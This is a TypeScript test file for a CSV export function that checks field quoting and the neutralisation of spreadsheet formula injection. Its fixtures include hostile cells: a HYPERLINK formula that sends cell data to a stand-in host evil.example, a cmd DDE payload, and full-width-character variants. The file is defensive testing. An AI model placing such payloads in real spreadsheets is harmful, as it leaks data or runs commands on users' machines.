import { mkdtemp, readFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { fc, test } from '@fast-check/vitest';
import { describe, expect, it } from 'vitest';
import { openCsvFile } from '../../../electron/core/viewers/csv-file';
import { neutraliseCsvCell } from '../../../shared/domain/csv-cell';
import { readCsv } from './csv-read';

async function roundTrip(records: string[][]): Promise<{ text: string; rows: string[][] }> {
  const path = join(await mkdtemp(join(tmpdir(), 'mc-csv-')), 'x.csv');
  const file = await openCsvFile(path, ['a', 'b', 'c'], false);
  await file.write(records);
  await file.close();
  const text = await readFile(path, 'utf8');
  return { text, rows: readCsv(text) };
}

describe('openCsvFile', () => {
  it('quotes commas, quotes, line breaks and edge spaces; leaves plain text bare', async () => {
    const { text } = await roundTrip([['plain', 'a,b', 'say "hi"'], ['two\nlines', ' padded', 'cr\rhere']]);
    expect(text).toBe('a,b,c\r\nplain,"a,b","say ""hi"""\r\n"two\nlines"," padded","cr\rhere"\r\n');
  });

  it('neutralises formula injection: cells starting with =, +, -, @, tab, CR or a full-width ＝＋－＠ get a leading quote', async () => {
    const hostile = [
      ['=HYPERLINK("http://evil.example/?"&A1,"click")', '+cmd|\' /C calc\'!A0', '-2+3'],
      ['@SUM(1+1)', '\t=1+1', '\r=1+1'],
      ['https://ok.example/=x', 'a=b', ''],
      ['\uFF1DHYPERLINK("http://evil.example")', '\uFF0B1', '\uFF0D1'],
      ['\uFF20SUM(1)', 'x\uFF1D1', ''],
    ];
    const { rows } = await roundTrip(hostile);
    expect(rows.slice(1)).toEqual([
      ['\'=HYPERLINK("http://evil.example/?"&A1,"click")', '\'+cmd|\' /C calc\'!A0', '\'-2+3'],
      ['\'@SUM(1+1)', '\'\t=1+1', '\'\r=1+1'],
      ['https://ok.example/=x', 'a=b', ''],
      ['\'\uFF1DHYPERLINK("http://evil.example")', '\'\uFF0B1', '\'\uFF0D1'],
      ['\'\uFF20SUM(1)', 'x\uFF1D1', ''],
    ]);
  });

  test.prop([fc.array(fc.tuple(fc.string({ unit: 'binary' }), fc.string(), fc.string({ unit: 'grapheme' })), { maxLength: 30 })], { numRuns: 60 })(
    'any text reads back as written, formula-looking cells neutralised by the one shared rule',
    async (records) => {
      const { rows } = await roundTrip(records.map((r) => [...r]));
      expect(rows).toEqual([['a', 'b', 'c'], ...records.map((r) => r.map(neutraliseCsvCell))]);
    },
  );
});
